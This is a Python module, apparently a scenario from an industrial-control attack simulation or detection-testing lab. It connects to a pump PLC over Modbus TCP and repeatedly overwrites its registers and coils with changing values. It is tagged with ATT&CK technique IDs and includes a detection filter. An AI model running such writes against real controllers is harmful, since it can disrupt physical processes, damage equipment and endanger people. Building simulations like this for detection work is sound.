"""Registers and coils of the pump PLC are written over and over, one after the other."""

from __future__ import annotations

from pymodbus.client import ModbusTcpClient

from ..node import Node

TITLE = "Registers and coils of the pump PLC written exhaustively and repeatedly"
TECHNIQUES = ("T0806", "T1692.001")
ORIGIN = "laptop"
ENTITIES = ("laptop", "plc-pump")
EVIDENCE = "modbus.func_code in {5, 6} && ip.src == 10.20.1.99"

ROUNDS, REGISTERS, COILS = 4, 20, 16


def run(node: Node) -> None:
    """Sweep the address space with changing values."""
    client = ModbusTcpClient(node.peer("plc-pump"), timeout=1)
    client.connect()
    for turn in range(ROUNDS):
        for address in range(REGISTERS):
            client.write_register(address, node.rng.randrange(65536), device_id=1)
            node.pause(0.015)
        for coil in range(COILS):
            client.write_coil(coil, turn % 2 == 0, device_id=1)
            node.pause(0.015)
    client.close()
